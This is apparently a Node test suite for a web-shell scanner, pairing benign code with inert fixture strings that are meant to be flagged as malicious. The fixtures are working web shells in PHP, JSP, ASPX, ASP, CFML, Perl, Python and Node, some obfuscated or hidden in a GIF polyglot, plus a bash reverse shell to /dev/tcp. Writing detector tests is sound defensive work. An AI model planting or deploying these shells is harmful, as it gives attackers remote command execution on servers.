/**
 * Each language analyzer on small fixtures written for these tests: shell-like code must be
 * flagged with the right reason, ordinary application code must stay clean. The fixtures
 * are inert text; nothing here is executed.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons, scanText } from './helpers.js';

const PHP_SHELL_DIRECT = `<?php
if (isset($_REQUEST['c'])) { echo "<pre>"; system($_REQUEST['c']); }
?>`;
const PHP_SHELL_INDIRECT = `<?php
$a = $_POST['x'];
$b = trim($a);
eval($b);
`;
const PHP_BUILT_NAME = `<?php
$f = 'sys' . 'tem';
$f($_GET['q']);
`;
const PHP_CALLBACK = `<?php array_map('ass' . 'ert', (array)$_COOKIE['k']);`;
const PHP_BACKTICK = '<?php echo `$_GET[z]`; ?>';
const PHP_PREG_E = `<?php preg_replace('/.*/e', $_POST['r'], 'x');`;
const PHP_INCLUDE = `<?php include($_GET['page']);`;
const PHP_WRAPPER = `<?php
function runit($cmd) { return shell_exec($cmd); }
echo runit($_POST['go']);
`;
const PHP_BENIGN = `<?php
namespace App\\Http;
class Greeter {
    public function greet(string $name): string {
        $clean = htmlspecialchars($name, ENT_QUOTES);
        return sprintf('Hello, %s!', $clean);
    }
}
$g = new Greeter();
echo $g->greet($_GET['name'] ?? 'world');
$rows = array_map(fn($r) => $r * 2, [1, 2, 3]);
usort($rows, function ($a, $b) { return $a <=> $b; });
$sql = "SELECT \`id\`, \`name\` FROM \`users\` WHERE \`id\` = ?";
// eval($_GET['x']) appears only in this comment
`;

test('php: request input straight into system()', () => {
  const f = findingOf('shell.php', PHP_SHELL_DIRECT);
  assert.equal(f?.verdict, 'malicious');
  assert.equal(f?.language, 'php');
  assert.ok(reasons(f).includes('request input reaches system()'));
  assert.equal(f?.evidence.find((e) => e.reason === 'request input reaches system()')?.line, 2);
});

test('php: request input through variables into eval()', () => {
  const f = findingOf('x.php', PHP_SHELL_INDIRECT);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('request-derived variable reaches eval()'));
});

test('php: function name assembled from pieces and called with request data', () => {
  const f = findingOf('x.php', PHP_BUILT_NAME);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('a variable holding a dangerous function name is called'));
  assert.ok(reasons(f).includes('function name "system" assembled from pieces or escapes'));
});

test('php: dangerous callback, backticks, preg_replace /e, include, wrapper function', () => {
  assert.ok(reasons(findingOf('a.php', PHP_CALLBACK)).includes('array_map() calls assert as a callback'));
  assert.ok(reasons(findingOf('b.php', PHP_BACKTICK)).includes('request input reaches a backtick shell command'));
  assert.ok(reasons(findingOf('c.php', PHP_PREG_E)).includes('regex replace with the /e modifier evaluates its replacement as PHP'));
  assert.ok(reasons(findingOf('d.php', PHP_INCLUDE)).includes('request input chooses a file to include as code'));
  const w = findingOf('e.php', PHP_WRAPPER);
  assert.equal(w?.verdict, 'malicious');
  assert.ok(reasons(w).includes('request input reaches shell_exec() through a wrapper function'));
});

test('php: ordinary application code is clean (comments and SQL backticks ignored)', () => {
  assert.equal(findingOf('Greeter.php', PHP_BENIGN), undefined);
});

test('php: base64 + gzinflate layer is decoded and its payload analyzed', async () => {
  const { deflateRawSync } = await import('node:zlib');
  const inner = 'if(isset($_POST["p"])){passthru($_POST["p"]);}';
  const enc = deflateRawSync(Buffer.from(inner)).toString('base64');
  const f = findingOf('packed.php', `<?php eval(gzinflate(base64_decode('${enc}'))); ?>`);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('eval() of a decoded payload'));
  const layered = f!.evidence.find((e) => e.layer === 1 && e.reason === 'request input reaches passthru()');
  assert.ok(layered, 'payload analyzed in decoded layer 1');
});

test('php: rot13 + strrev names and constant folding through str_replace', () => {
  const f = findingOf('r.php', `<?php $k = str_replace('QQ', '', 'crQQeate_fuQQnction'); $g = $k('', $_POST['body']); $g();`);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('a variable holding a dangerous function name is called'));
  const g = findingOf('s.php', `<?php $n = strrev('tressa'); $n($_REQUEST['v']);`);
  assert.equal(g?.verdict, 'malicious');
});

test('php: image polyglot is analyzed despite its extension', () => {
  const gif = 'GIF89a\x01\x00\x01\x00\x00\xff\x00,<?php @eval($_POST["z"]); ?>';
  const f = findingOf('avatar.gif', gif);
  assert.equal(f?.verdict, 'malicious');
  assert.ok(reasons(f).includes('server-side php code inside a .gif file (polyglot)'));
  assert.equal(findingOf('photo.jpg', '\xff\xd8\xff\xe0 plain jpeg bytes'), undefined);
});

test('binary files: marker bytes followed by more binary are chance, not code', () => {
  // a font's or PDF stream's bytes that happen to spell `<?=` or `<%@`
  const font = `\x00\x01\x00\x00\x00\x12\x01\x00<?=-\xa6\x0c\x01\x1e@W\x60_g\xc8\x60_(*\x01 \xcbHRJ\x02\xac\xad${'\x00\x00^|&^'.repeat(40)}`;
  const [ttf] = scanText('fonts/Math.ttf', font);
  assert.equal(ttf!.analyzed, false);
  assert.equal(ttf!.skipped, 'not server-executable');
  const pdf = `%PDF-1.4\n<%@\xd4\xde\xc1\x03din\xe1\x0c QS\xd6 \xa5\xa7g\xf8O\xcb?!\x00c\xff`;
  assert.equal(scanText('manual.pdf', pdf)[0]!.analyzed, false);
  // the same bytes with code after a chance marker are found at the code
  const both = `${font}<?php @eval($_POST["z"]); ?>`;
  assert.equal(findingOf('fonts/Math.ttf', both)?.verdict, 'malicious');
});

const JSP_SHELL = `<%@ page import="java.io.*" %>
<%
String c = request.getParameter("cmd");
if (c != null) {
  Process p = Runtime.getRuntime().exec(c);
  BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
  String l; while ((l = r.readLine()) != null) out.println(l);
}
%>`;
const JSP_BENIGN = `<%@ page contentType="text/html; charset=UTF-8" pageEncoding="UTF-8" %>
<%@ taglib prefix="s" uri="/struts-tags" %>
<html><body>
<h1><s:property value="title"/></h1>
<% String name = request.getParameter("name"); %>
<p>Hello <%= org.apache.commons.text.StringEscapeUtils.escapeHtml4(name) %></p>
</body></html>`;
const JSP_LOADER = `<%@ page import="javax.crypto.*,javax.crypto.spec.*" %>
<%!class L extends ClassLoader{L(ClassLoader c){super(c);} public Class g(byte []b){return super.defineClass(b,0,b.length);}}%>
<%
String k = "0123456789abcdef"; session.putValue("u", k);
Cipher c = Cipher.getInstance("AES"); c.init(2, new SecretKeySpec(k.getBytes(), "AES"));
byte[] body = java.util.Base64.getDecoder().decode(request.getReader().readLine());
new L(this.getClass().getClassLoader()).g(c.doFinal(body)).newInstance().equals(pageContext);
%>`;
const JSP_MEMSHELL = `<%@ page import="org.apache.catalina.core.*,java.lang.reflect.*" %>
<%
Field f = request.getClass().getDeclaredField("request"); f.setAccessible(true);
StandardContext ctx = (StandardContext) ((org.apache.catalina.connector.Request) f.get(request)).getContext();
org.apache.tomcat.util.descriptor.web.FilterDef def = new org.apache.tomcat.util.descriptor.web.FilterDef();
ctx.addFilterDef(def);
%>`;

test('jsp: request parameter into Runtime.exec through a variable', () => {
  const f = findingOf('cmd.jsp', JSP_SHELL);
  assert.equal(f?.verdict, 'malicious');
  assert.equal(f?.language, 'jsp');
  assert.ok(reasons(f).includes('request-derived variable reaches Runtime.exec'));
  assert.equal(f?.family, 'cmd.jsp');
});

test('jsp: Struts page is clean; AES + defineClass loader is Behinder-like; memory shell loader', () => {
  assert.equal(findingOf('index.jsp', JSP_BENIGN), undefined);
  const b = findingOf('x.jsp', JSP_LOADER);
  assert.equal(b?.verdict, 'malicious');
  assert.equal(b?.family, 'Behinder');
  assert.ok(reasons(b).includes('loads classes from request bytes it decodes/decrypts'));
  const m = findingOf('m.jsp', JSP_MEMSHELL);
  assert.equal(m?.family, 'memory shell loader');
  assert.ok(reasons(m).includes('registers a filter/servlet/listener/endpoint into the running server (memory shell loader)'));
});

const ASPX_SHELL = `<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
  string arg = Request.Form["a"];
  if (arg != null) {
    var psi = new ProcessStartInfo("cmd.exe", "/c " + arg);
    psi.RedirectStandardOutput = true; psi.UseShellExecute = false;
    Response.Write(Process.Start(psi).StandardOutput.ReadToEnd());
  }
}
</script>`;
const ASPX_JSCRIPT = `<%@ Page Language="Jscript"%><%eval(Request.Item["pw"],"unsafe");%>`;
const ASPX_BENIGN = `<%@ Page Language="C#" AutoEventWireup="true" CodeBehind="Default.aspx.cs" Inherits="Web._Default" %>
<html><body><form runat="server">
<asp:Label ID="Greeting" runat="server" />
<% var q = Request.QueryString["q"]; Response.Write(Server.HtmlEncode(q)); %>
</form></body></html>`;

test('aspx: request form value into ProcessStartInfo; JScript eval one-liner; benign page clean', () => {
  const f = findingOf('run.aspx', ASPX_SHELL);
  assert.equal(f?.verdict, 'malicious');
  assert.equal(f?.language, 'aspx');
  assert.ok(reasons(f).includes('request-derived variable reaches ProcessStartInfo'));
  const j = findingOf('x.aspx', ASPX_JSCRIPT);
  assert.equal(j?.verdict, 'malicious');
  assert.equal(j?.family, 'China Chopper');
  assert.equal(findingOf('Default.aspx', ASPX_BENIGN), undefined);
});

const ASP_SHELL = `<%@ LANGUAGE="VBScript" %>
<%
Dim sh, c
c = Request.Form("c")
Set sh = Server.CreateObject("WScript.Shell")
Response.Write sh.Exec("cmd.exe /c " & c).StdOut.ReadAll()
%>`;
const ASP_EXECUTE = `<% Execute Request("k") %>`;
const ASP_CHR = `<% Execute(Chr(114)&Chr(101)&Chr(113)&Chr(117)&Chr(101)&Chr(115)&Chr(116)&Chr(40)&Chr(34)&Chr(120)&Chr(34)&Chr(41)) %>`;
const ASP_BENIGN = `<%@ LANGUAGE="VBScript" %>
<%
' Execute is mentioned here only in a comment
Dim name
name = Request.QueryString("name")
If name = "" Then name = "guest"
Response.Write "Hello " & Server.HTMLEncode(name)
%>`;

test('asp: WScript.Shell with request data, Execute of request, Chr()-built code; benign page clean', () => {
  const f = findingOf('s.asp', ASP_SHELL);
  assert.equal(f?.verdict, 'malicious');
  assert.equal(f?.language, 'asp');
  assert.ok(reasons(f).includes('request-derived variable reaches shell Exec'));
  assert.ok(reasons(findingOf('e.asp', ASP_EXECUTE)).includes('request input reaches Execute'));
  assert.ok(reasons(findingOf('c.asp', ASP_CHR)).includes('request input reaches Execute through code built from pieces'));
  assert.equal(findingOf('hello.asp', ASP_BENIGN), undefined);
});

test('cfml: cfexecute with form data; Evaluate of a field name only is clean', () => {
  const f = findingOf(
    'x.cfm',
    `<cfif isDefined("form.cmd")><cfexecute name="#form.cmd#" arguments="#form.args#" timeout="5" variable="out"></cfexecute><cfoutput>#out#</cfoutput></cfif>`,
  );
  assert.equal(f?.verdict, 'malicious');
  assert.equal(f?.language, 'cfml');
  assert.ok(reasons(f).includes('request input reaches cfexecute'));
  assert.equal(findingOf('y.cfm', `<cfloop list="#form.fieldnames#" index="k"><cfset v = Evaluate("form.#k#")><cfoutput>#encodeForHTML(v)#</cfoutput></cfloop>`), undefined);
});

test('perl, python, node, shell: request input into command execution; plain scripts clean', () => {
  const pl = findingOf('x.cgi', `#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $c = $q->param('c');\nprint "Content-type: text/plain\\n\\n";\nprint \`$c\`;\n`);
  assert.equal(pl?.verdict, 'malicious');
  assert.equal(pl?.language, 'perl');
  const py = findingOf(
    'x.py',
    `#!/usr/bin/env python3\nimport cgi, subprocess\nform = cgi.FieldStorage()\ncmd = form.getvalue('c')\nprint(subprocess.check_output(cmd, shell=True))\n`,
  );
  assert.equal(py?.verdict, 'malicious');
  const js = findingOf(
    'srv.js',
    `const http = require('http');\nconst { exec } = require('child_process');\nhttp.createServer((req, res) => { const u = new URL(req.url, 'http://x'); exec(u.searchParams.get('c'), (e, o) => res.end(o)); }).listen(8080);\n`,
  );
  assert.equal(js?.verdict, 'malicious');
  assert.equal(js?.language, 'node');
  const sh = findingOf('r.sh', `#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n`);
  assert.equal(sh?.verdict, 'malicious');
  assert.ok(reasons(sh).includes('reverse shell over /dev/tcp'));
  assert.equal(findingOf('ok.pl', `#!/usr/bin/perl\nuse strict;\nmy @list = (1, 2, 3);\nprint join(',', map { $_ * 2 } @list), "\\n";\n`), undefined);
  assert.equal(findingOf('ok.py', `import os\n\ndef main():\n    print(os.path.join('a', 'b'))\n\nmain()\n`), undefined);
  assert.equal(findingOf('app.js', `const express = require('express');\nconst app = express();\napp.get('/', (req, res) => res.send('hi ' + req.query.name));\n`), undefined);
});

test('obfuscation: minified client JavaScript is not analyzed; long base64 in PHP decodes to code', () => {
  const min = 'var a=' + JSON.stringify('x'.repeat(6000)) + ';eval(function(p,a,c,k,e,d){return p}("x",1,1,[],0,{}));';
  assert.equal(findingOf('lib.min.js', min), undefined);
  const payload = Buffer.from('<?php if(isset($_GET["x"])){ system($_GET["x"]); } ?>'.repeat(12)).toString('base64');
  const f = findingOf('cfg.php', `<?php $data = "${payload}"; file_put_contents('/tmp/c', $data); ?>`);
  assert.ok(f);
  assert.ok(reasons(f).includes('long base64 blob that decodes to code'));
});

test('language is decided by content, not by extension', () => {
  const f = findingOf('readme.txt', '<?php system($_GET["c"]); ?>');
  assert.equal(f?.language, 'php');
  const j = findingOf('page.php', JSP_SHELL);
  assert.equal(j?.language, 'jsp');
});
